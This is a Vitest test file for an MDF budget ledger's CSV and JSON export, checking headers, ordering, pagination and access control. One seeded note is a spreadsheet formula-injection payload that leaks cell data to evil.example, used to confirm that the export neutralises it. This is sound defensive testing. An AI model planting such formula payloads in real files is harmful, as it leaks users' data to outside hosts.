import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';

await vi.hoisted(() => import('./support/environment.ts'));

import { handler } from '#http/mdf-budgets';
import { dynamoMock, emailMock, stepFunctionsMock, writeProblems, writesSent } from './support/aws.ts';
import { headerOf, httpEvent, jsonOf, lambdaContext } from './support/events.ts';
import { FakeTable } from './support/fake-table.ts';
import { budgetItem, claimsOf, ledgerEntryItem, NOW, people, REQUEST_ID, type PersonFixture } from './support/fixtures.ts';

/** A budget's ledger: every movement, oldest first, as JSON or as a CSV a spreadsheet opens safely. */
const ddb = dynamoMock();
stepFunctionsMock();
emailMock();
const table = new FakeTable();

const ledger = (headers: Record<string, string> = {}, person: PersonFixture = people.sam, query?: Record<string, string>) =>
  handler(
    httpEvent('GET /mdf/budgets/{region}/{quarter}/ledger', {
      claims: claimsOf(person),
      pathParameters: { region: 'EMEA', quarter: '2027-Q1' },
      headers,
      ...(query ? { query } : {}),
    }),
    lambdaContext('mdf-budgets'),
  );

/** The CSV's rows, each a list of raw cells (quotes kept), split on the CRLF line ends. */
const linesOf = (body: string) => body.split('\r\n');

beforeEach(() => {
  vi.useFakeTimers({ toFake: ['Date'], now: NOW });
  ddb.reset();
  table.clear();
  table.serve(ddb);
  table.seed(
    budgetItem(),
    ledgerEntryItem({ id: 'led_1', at: '2026-10-01T09:00:00.000Z', kind: 'adjust', amountCents: 10_000_000, note: 'Budget set for EMEA 2027-Q1', by: 'usr_admin' }),
    ledgerEntryItem({ id: 'led_2', at: '2026-11-21T10:00:00.000Z', kind: 'reserve', amountCents: 500_000, requestId: REQUEST_ID, note: 'MDF request "Cloud security breakfast seminar" approved' }),
    ledgerEntryItem({ id: 'led_3', at: '2026-11-22T10:00:00.000Z', kind: 'release', amountCents: 125_050, requestId: REQUEST_ID, note: '=HYPERLINK("https://evil.example/?d="&A1,"Refund")' }),
  );
});

afterEach(() => {
  vi.useRealTimers();
  expect(writeProblems(ddb)).toEqual([]);
});

describe('the budget ledger as CSV', () => {
  it('with Accept: text/csv the ledger is a CSV download: a header, then one row per movement, oldest first', async () => {
    // Act
    const response = await ledger({ accept: 'text/csv' });

    // Assess
    expect(response.statusCode).toBe(200);
    expect(headerOf(response, 'content-type')).toBe('text/csv; charset=utf-8');
    expect(headerOf(response, 'content-disposition')).toBe('attachment; filename="mdf-ledger-EMEA-2027-Q1.csv"');
    expect(headerOf(response, 'cache-control')).toBe('no-store');
    const lines = linesOf(response.body ?? '');
    expect(lines.at(-1)).toBe('');
    expect(lines.slice(0, 3)).toEqual([
      'at,kind,amountCents,amountUsd,flexi,requestId,by,note',
      '2026-10-01T09:00:00.000Z,adjust,10000000,100000.00,false,,usr_admin,Budget set for EMEA 2027-Q1',
      `2026-11-21T10:00:00.000Z,reserve,500000,5000.00,false,${REQUEST_ID},usr_morgan,"MDF request ""Cloud security breakfast seminar"" approved"`,
    ]);
    expect(lines).toHaveLength(5);
    expect(writesSent(ddb)).toHaveLength(0);
  });

  it('a note a spreadsheet would run as a formula (=…) is neutralised: prefixed with \' and quoted', async () => {
    // Act
    const response = await ledger({ accept: 'text/csv' });

    // Assess
    const row = linesOf(response.body ?? '')[3];
    expect(row).toBe(`2026-11-22T10:00:00.000Z,release,125050,1250.50,false,${REQUEST_ID},usr_morgan,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Refund"")"`);
    expect(response.body).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it.each([
    { start: '+', note: '+1 555 0100 booth deposit' },
    { start: '-', note: '-2+3' },
    { start: '@', note: '@SUM(1,1)' },
    { start: 'a tab', note: '\t=1+1' },
  ])('a note starting with $start is neutralised too', async ({ note }) => {
    // Prepare
    table.seed(ledgerEntryItem({ id: 'led_4', at: '2026-11-23T09:00:00.000Z', kind: 'adjust', amountCents: 1, note }));

    // Act
    const response = await ledger({ accept: 'text/csv' });

    // Assess
    const row = linesOf(response.body ?? '')[4] ?? '';
    const cell = row.slice(row.indexOf(',usr_morgan,') + ',usr_morgan,'.length);
    expect(cell).toBe(`"'${note.replace(/"/g, '""')}"`);
  });

  it('a note with a line break stays one cell', async () => {
    // Prepare
    table.seed(ledgerEntryItem({ id: 'led_4', at: '2026-11-23T09:00:00.000Z', kind: 'adjust', amountCents: 1, note: 'Moved to Q2\nper Morgan' }));

    // Act
    const response = await ledger({ accept: 'text/csv' });

    // Assess
    expect(response.body).toContain(',"Moved to Q2\nper Morgan"\r\n');
  });

  it('the CSV holds every movement, beyond one page of 500', async () => {
    // Prepare: 600 more movements
    for (let index = 0; index < 600; index += 1) {
      const at = new Date(Date.parse('2026-11-23T00:00:00.000Z') + index * 1000).toISOString();
      table.seed(ledgerEntryItem({ id: `led_bulk${index}`, at, kind: 'reserve', amountCents: 100, note: `Bulk ${index}` }));
    }

    // Act
    const response = await ledger({ accept: 'text/csv' });

    // Assess: header, 603 rows, the final empty line
    const lines = linesOf(response.body ?? '');
    expect(lines).toHaveLength(1 + 603 + 1);
    expect(lines.at(-2)).toContain('Bulk 599');
  });

  it('without Accept: text/csv the ledger is a JSON page', async () => {
    // Act
    const response = await ledger({}, people.sam, { limit: '2' });

    // Assess
    expect(response.statusCode).toBe(200);
    const body = jsonOf(response) as { items: { id: string; kind: string }[]; nextCursor?: string };
    expect(body.items.map((entry) => entry.kind)).toEqual(['adjust', 'reserve']);
    expect(body.nextCursor).toBeTruthy();
  });

  it('a partner user may not read a budget ledger (403)', async () => {
    // Act
    const response = await ledger({ accept: 'text/csv' }, people.dana);

    // Assess
    expect(response.statusCode).toBe(403);
    expect(headerOf(response, 'content-type')).toBe('application/problem+json');
  });
});
